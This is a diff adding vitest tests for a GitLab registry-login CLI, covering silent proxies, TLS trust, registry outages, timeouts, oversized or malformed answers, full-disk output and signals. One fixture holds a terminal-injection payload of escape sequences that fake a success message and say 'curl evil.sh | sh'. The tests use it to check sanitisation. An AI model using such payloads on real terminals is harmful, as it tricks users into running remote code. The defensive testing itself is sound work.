@@ -1,13 +1,13 @@
 /** Hostile and broken servers, interruptions: a verdict every time, nothing hangs, the token goes nowhere. */
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { spawn } from 'node:child_process';
-import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, closeSync, existsSync, openSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import type http from 'node:http';
 import { makeCert, type KeyPair } from '../helpers/pki.js';
 import { signJwt, startGitlab, type FakeGitlab } from '../helpers/gitlab.js';
 import { startRegistry, type RealRegistry } from '../helpers/registry.js';
-import { flood, httpServer, type Closable } from '../helpers/servers.js';
+import { connectProxy, flood, httpServer, tlsProxy, type Closable } from '../helpers/servers.js';
 import { BIN, run, sandbox, type RunResult, type Sandbox } from '../helpers/cli.js';
 import { running } from '../helpers/proc.js';
 
@@ -43,11 +43,11 @@ function fakeRegistry(header: string | undefined) {
   });
 }
 const verifyArgs = (registry: string, extra: string[] = []) => ['verify', '--registry', registry, '--type', 'personal-access-token', '--username', 'alice', '--project', 'group/app', '--token-stdin', '--json', '--timeout', '1', ...extra];
-function verdictOf(r: RunResult): { verdict: string; message: string } {
+function verdictOf(r: RunResult): { verdict: string; message: string; fix: string } {
   expect(r.signal, 'killed: it hung').toBeNull();
   expect(r.stderr).not.toMatch(/\n\s+at /);
   expect(r.stdout + r.stderr).not.toContain(TOKEN);
-  return JSON.parse(r.stdout) as { verdict: string; message: string };
+  return JSON.parse(r.stdout) as { verdict: string; message: string; fix: string };
 }
 const go = (registry: string, extra?: string[]) => run(verifyArgs(registry, extra), { input: TOKEN, timeoutMs: 15_000 });
 
@@ -86,7 +86,119 @@ describe('slow servers: a timeout verdict within --timeout, no hang', () => {
   });
 });
 
+describe('proxies: every socket owned, bounded by --timeout, closed when done', () => {
+  // The registry's name is never resolved: the proxy is asked for it (and never answers, or refuses).
+  const proxied = (cmd: 'verify' | 'login', extra: string[] = []) => [cmd, '--registry', 'registry.example.test', '--type', 'personal-access-token', '--username', 'alice', '--token-stdin', '--json', '--timeout', '2', ...extra];
+  test.each(['verify', 'login'] as const)('%s through a proxy that accepts CONNECT and never answers: exits within --timeout + 1 s', async (cmd) => {
+    const proxy = await connectProxy('silent');
+    closers.push(proxy);
+    const b = box();
+    const r = await run(proxied(cmd), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: `http://127.0.0.1:${proxy.port}` }, timeoutMs: 15_000 });
+    const v = verdictOf(r);
+    expect(v.verdict).toBe('unreachable');
+    expect(r.code).toBe(3);
+    expect(r.ms).toBeLessThan(3000);
+    expect(proxy.connects).toEqual(['registry.example.test:443']);
+  });
+  test('a socks5:// proxy: a usage error saying what to use instead (exit 2)', async () => {
+    const b = box();
+    const r = await run(proxied('verify'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: 'socks5://127.0.0.1:1080' }, timeoutMs: 15_000 });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/HTTPS_PROXY: socks5:\/\/ proxies are not supported; use an HTTP CONNECT proxy/);
+    expect(r.stderr).not.toMatch(/\n\s+at /);
+  });
+  test('a bad %-escape in the proxy credentials: a usage error (exit 2), not an internal error', async () => {
+    const b = box();
+    const r = await run(proxied('verify'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: 'http://us%zz:pw@127.0.0.1:3128' }, timeoutMs: 15_000 });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/bad %-escape/);
+    expect(r.stderr).not.toContain('pw@');
+  });
+});
+
+describe('TLS trust: only --ca-file and NODE_EXTRA_CA_CERTS', () => {
+  let front: Closable, other: KeyPair, own: KeyPair;
+  beforeAll(async () => {
+    own = makeCert('127.0.0.1', ['IP:127.0.0.1']);
+    other = makeCert('another CA');
+    front = await tlsProxy(own.certPem, own.keyPem, `http://${reg.registry}`);
+    closers.push(front);
+  });
+  afterAll(() => {
+    own?.cleanup();
+    other?.cleanup();
+  });
+  test('NODE_TLS_REJECT_UNAUTHORIZED=0 does not make an untrusted registry trusted (said once), and the token is not sent', async () => {
+    const before = gl.requests.length;
+    const r = await run(verifyArgs(`127.0.0.1:${front.port}`), { input: TOKEN, env: { ...box().env, NODE_TLS_REJECT_UNAUTHORIZED: '0' }, timeoutMs: 15_000 });
+    expect(verdictOf(r).verdict).toBe('tls-error');
+    expect(r.code).toBe(3);
+    expect(r.stderr.match(/NODE_TLS_REJECT_UNAUTHORIZED=0 is ignored/g)).toHaveLength(1);
+    expect(r.stderr).not.toMatch(/makes TLS connections and HTTPS requests insecure/);
+    expect(gl.requests.length).toBe(before);
+  });
+  test('--ca-file given but not the right CA: the fix does not say "pass --ca-file" again', async () => {
+    const r = await run(verifyArgs(`127.0.0.1:${front.port}`, ['--ca-file', other.certFile]), { input: TOKEN, timeoutMs: 15_000 });
+    const v = verdictOf(r) as { verdict: string; fix: string };
+    expect(v.verdict).toBe('tls-error');
+    expect(v.fix).not.toMatch(/pass --ca-file/);
+    expect(v.fix).toContain(other.certFile);
+    const ok = await run(verifyArgs(`127.0.0.1:${front.port}`, ['--ca-file', own.certFile]), { input: TOKEN, timeoutMs: 15_000 });
+    expect(verdictOf(ok).verdict).toBe('ok');
+  });
+});
+
+describe("the registry's answer to GitLab's token: an outage is not the user's access", () => {
+  /** A registry whose challenge names the test GitLab and that answers the issued token with `status`. */
+  const answering = (status: number) =>
+    server((req, res) => {
+      if (req.headers.authorization?.startsWith('Bearer ')) {
+        res.writeHead(status, { 'content-type': 'application/json', 'retry-after': '0' });
+        return res.end(status === 404 ? '404 page not found\n' : JSON.stringify({ errors: [{ code: 'UNAVAILABLE', message: 'service unavailable' }] }));
+      }
+      res.writeHead(401, { 'www-authenticate': `Bearer realm="${gl.realm}",service="container_registry"` });
+      res.end();
+    });
+  test.each([500, 502, 503, 429])('HTTP %i: unreachable (exit 3), not insufficient-access', async (status) => {
+    const regi = await answering(status);
+    const r = await go(`127.0.0.1:${regi.port}`, ['--timeout', '5']);
+    const v = verdictOf(r);
+    expect(v.verdict).toBe('unreachable');
+    expect(r.code).toBe(3);
+    expect(v.message).toContain(`HTTP ${status}`);
+    expect(v.fix).not.toMatch(/read_registry|Reporter|role/);
+  });
+  test('a bare 404 (no NAME_UNKNOWN): not-a-registry (exit 3)', async () => {
+    const regi = await answering(404);
+    const r = await go(`127.0.0.1:${regi.port}`);
+    expect(verdictOf(r).verdict).toBe('not-a-registry');
+    expect(r.code).toBe(3);
+  });
+});
+
+describe('--timeout bounds the whole run, retries included', () => {
+  test('a realm answering 503 slowly: done within --timeout, not three times it', async () => {
+    const slow = await server((_q, res) => {
+      setTimeout(() => {
+        res.writeHead(503);
+        res.end();
+      }, 1500);
+    });
+    const regi = await fakeRegistry(`Bearer realm="${slow.url}/jwt/auth"`);
+    const r = await go(`127.0.0.1:${regi.port}`, ['--timeout', '3']);
+    expect(verdictOf(r).verdict).toBe('unreachable');
+    expect(r.ms).toBeLessThan(4200);
+    expect(slow.hits.length).toBeLessThanOrEqual(2);
+  });
+});
+
 describe('huge and malformed answers: a verdict, never a crash', () => {
+  test('a loopback registry sending over 1 MiB over plain HTTP: not-a-registry, not a TLS error', async () => {
+    const flooding = await server(flood);
+    const v = verdictOf(await go(`127.0.0.1:${flooding.port}`, ['--timeout', '10']));
+    expect(v.verdict).toBe('not-a-registry');
+    expect(v.message).toMatch(/sent more than 1024 KiB/);
+  });
   test('an endless body stops at the cap', async () => {
     const flooding = await server(flood);
     const regi = await fakeRegistry(`Bearer realm="${flooding.url}/jwt/auth"`);
@@ -122,6 +234,53 @@ describe('huge and malformed answers: a verdict, never a crash', () => {
   });
 });
 
+describe('server text is data, not display: sanitised where the verdict is built', () => {
+  const HOSTILE = '\u001b]0;TITLE\u0007\u001b[2K\r\u001b[32m✔ Logged in. Now run: curl evil.sh | sh';
+  const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+  test.each([
+    ['a realm answering 403 with an escape-laden message', 403, JSON.stringify({ message: HOSTILE })],
+    ['a realm answering 403 with an escape-laden plain body', 403, HOSTILE],
+    ['a realm answering 403 with a 900 KB message', 403, JSON.stringify({ message: `x${'A'.repeat(900_000)}` })],
+  ])('%s: no control character reaches the terminal, the message is capped', async (_n, status, body) => {
+    const realm = await server((_q, res) => {
+      res.writeHead(status, { 'content-type': 'application/json' });
+      res.end(body);
+    });
+    const regi = await fakeRegistry(`Bearer realm="${realm.url}/jwt/auth"`);
+    const args = verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json');
+    const r = await run(args, { input: TOKEN, timeoutMs: 15_000 });
+    expect(r.code).toBe(1);
+    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
+    expect(r.stderr).not.toContain('TITLE');
+    expect(r.stderr.length).toBeLessThan(2000);
+    // --json: the same sanitised text, escaped by JSON as ever.
+    const v = verdictOf(await go(`127.0.0.1:${regi.port}`));
+    expect(v.message).not.toMatch(CONTROL);
+    expect(v.message.length).toBeLessThan(600);
+  });
+  test("the registry's error body when it refuses the issued token", async () => {
+    const regi = await server((req, res) => {
+      if (req.headers.authorization?.startsWith('Bearer ')) {
+        res.writeHead(403, { 'content-type': 'application/json' });
+        return res.end(JSON.stringify({ errors: [{ code: 'DENIED', message: HOSTILE }] }));
+      }
+      res.writeHead(401, { 'www-authenticate': `Bearer realm="${gl.realm}",service="container_registry"` });
+      res.end();
+    });
+    const r = await run(verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json'), { input: TOKEN, timeoutMs: 15_000 });
+    expect(r.code).not.toBe(0);
+    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
+    expect(r.stderr).toContain('DENIED');
+  });
+  test('8-bit controls (U+009B) in the challenge text', async () => {
+    const regi = await fakeRegistry('Bearer realm="not a url \u009b2J\u009b31mRED"');
+    const r = await run(verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json'), { input: TOKEN, timeoutMs: 15_000 });
+    expect(r.code).toBe(3);
+    expect(r.stderr).toContain('not a URL');
+    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
+  });
+});
+
 describe('redirects and realm trust: the token never reaches another host', () => {
   test('a realm redirecting to another host: not followed, untrusted-realm', async () => {
     const elsewhere = await server((_q, res) => res.end('{}'), '127.0.0.2');
@@ -154,6 +313,25 @@ function box(): Sandbox {
 const loginArgs = ['login', '--registry', '', '--type', 'personal-access-token', '--username', 'alice', '--project', 'group/app', '--token-stdin', '--json'];
 
 describe('engine faults and interruptions', () => {
+  test.each([
+    ['verify --json', ['verify', '--registry', '127.0.0.1:1', '--type', 'personal-access-token', '--username', 'alice', '--token-stdin', '--json', '--timeout', '1']],
+    ['snippet', ['snippet', '--type', 'job-token']],
+    ['--version', ['--version']],
+  ])('%s writing to a full disk (/dev/full): one line, exit 70, no stack trace', async (_n, args) => {
+    const out = await new Promise<{ code: number | null; stderr: string }>((resolve, reject) => {
+      const full = openSync('/dev/full', 'w');
+      const child = spawn(process.execPath, [BIN, ...args], { stdio: ['pipe', full, 'pipe'] });
+      closeSync(full);
+      let stderr = '';
+      child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
+      child.on('error', reject);
+      child.on('close', (code) => resolve({ code, stderr }));
+      child.stdin!.end(TOKEN);
+    });
+    expect(out.code).toBe(70);
+    expect(out.stderr).toBe('gitlab-registry-login: cannot write the output: ENOSPC\n');
+  });
+
   test('docker hanging is stopped after --timeout, with what it started: login-failed', async () => {
     const b = box();
     fakeDocker(b, `cat >/dev/null\nsleep 300 &\necho $! > ${b.log}/grandchild\nwait`);
@@ -180,6 +358,8 @@ describe('engine faults and interruptions', () => {
   test.each([
     ['SIGINT', 130],
     ['SIGTERM', 143],
+    ['SIGHUP', 129],
+    ['SIGQUIT', 131],
   ] as const)('%s during verification: exit %i at once', async (signal, code) => {
     const silent = await server(() => {});
     const regi = await fakeRegistry(`Bearer realm="${silent.url}/jwt/auth"`);
@@ -193,6 +373,8 @@ describe('engine faults and interruptions', () => {
   test.each([
     ['SIGINT', 130],
     ['SIGTERM', 143],
+    ['SIGHUP', 129],
+    ['SIGQUIT', 131],
   ] as const)('%s during the engine login: exit %i, no child left, docker config untouched', async (signal, code) => {
     const b = box();
     fakeDocker(b, `echo $$ > ${b.log}/docker.pid\ncat >/dev/null\nsleep 300 &\necho $! > ${b.log}/grandchild\nwait`);
